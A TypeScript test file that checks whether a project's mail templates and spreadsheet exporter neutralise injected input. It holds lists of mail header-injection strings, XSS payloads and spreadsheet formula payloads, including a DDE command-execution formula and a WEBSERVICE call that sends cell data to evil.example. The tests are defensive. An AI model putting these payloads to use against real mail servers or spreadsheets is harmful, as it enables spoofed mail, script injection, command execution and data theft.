/**
 * Texts that somebody entered where a mail program or a spreadsheet reads them. What is shown
 * where:
 *
 * - a recipient that is two, a name that adds a header, through a real mail server: `mail.test.ts`
 * - formulas: the list of accounts in `user.admin.test.ts`, the record in `audit.test.ts`, tables
 *   and charts of pages (CSV) in `table.rules.test.ts`; the writer of all sheets here
 * - scripts in pages: `e2e/tests/xss.spec.ts`
 */
import { buffer } from 'node:stream/consumers';
import { LANGUAGES, MAIL_TEMPLATES } from '@hypercube/contract';
import { mailTexts } from '@hypercube/messages/mails';
import { read, utils } from '@e965/xlsx';
import { createTransport } from 'nodemailer';
import { describe, expect, test } from 'vitest';
import { layOutMail } from '../platform/mail/layout.ts';
import { writeSheet } from '../platform/sheet/write.ts';

/** What would begin a header, a part or an element where it is taken as it stands. */
const HOSTILE = [
  'a\r\nBcc: victim@example.org',
  'a\nBcc: victim@example.org',
  'a\rBcc: victim@example.org',
  'a\u2028Bcc: victim@example.org',
  'a\u0000\r\nX-Injected: 1',
  'a\r\n\r\n<script>alert(1)</script>',
  'a\r\n.\r\nMAIL FROM:<victim@example.org>',
  '=?utf-8?Q?a=0D=0ABcc:_victim@example.org?=',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  "javascript:alert('1')",
  'a\u202Egpj.exe',
] as const;

/** Every value of a template is hostile, and the site's name; but the link, which no user writes. */
const valuesOf = (hostile: string): Record<string, string> =>
  new Proxy(
    { url: 'https://hpc.example.edu/settings' },
    { get: (known, name) => (name === 'url' ? known.url : hostile) },
  );

const CASES = LANGUAGES.flatMap((language) =>
  MAIL_TEMPLATES.map((template) => [template, language] as const),
);

describe('a mail', () => {
  test.each(CASES)('%s in %s says only what it is made of', async (template, language) => {
    // Writes what would go over the wire, without a wire.
    const transport = createTransport({ streamTransport: true, buffer: true });
    for (const hostile of HOSTILE) {
      const { subject, text, html } = layOutMail(
        language,
        hostile,
        mailTexts[language][template](valuesOf(hostile)),
      );
      expect(subject).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
      expect(html).not.toMatch(/<script|<img|<b>|href="(?!https:\/\/hpc\.example\.edu)/i);
      const { message } = await transport.sendMail({
        from: 'Hypercube <no-reply@hpc.example.edu>',
        to: { name: '', address: 'someone@example.edu' },
        subject,
        text,
        html,
      });
      const [head = ''] = (message as Buffer).toString().split('\r\n\r\n', 1);
      const names = [...head.matchAll(/^([\w-]+):/gm)].map(([, name]) => name);
      expect(new Set(names)).toEqual(
        new Set(['From', 'To', 'Subject', 'Message-ID', 'Date', 'MIME-Version', 'Content-Type']),
      );
      expect(names).toHaveLength(7);
      expect(head).toMatch(/^To: someone@example\.edu$/m);
    }
  });
});

describe('a sheet', () => {
  const FORMULAS = [
    '=1+1',
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example","x")',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '+\u0000=1',
  ];

  test('holds nothing that a spreadsheet would compute, nor once it is saved as CSV', async () => {
    async function* rows(): AsyncGenerator<string[][]> {
      yield FORMULAS.map((formula) => [formula, `${formula}","${formula}`]);
    }
    const bytes = await buffer(writeSheet("=1+1'<b>", ['=1+1', 'b'], rows()));
    const book = read(bytes, { type: 'buffer', cellFormula: true });
    const [sheet] = Object.values(book.Sheets);
    if (!sheet) throw new Error('the sheet is missing');
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
    expect(cells).toHaveLength(2 * (FORMULAS.length + 1));
    for (const [address, cell] of cells) {
      const { f, t, v } = cell as { f?: string; t: string; v: string };
      expect([address, f, t]).toEqual([address, undefined, 's']);
      expect(v).not.toMatch(/^[=+\-@\t\r]/);
    }
    const csv = utils.sheet_to_csv(sheet);
    expect(csv.split('\n').filter((line) => /^"?[=+\-@\t\r]/.test(line))).toEqual([]);
  });
});
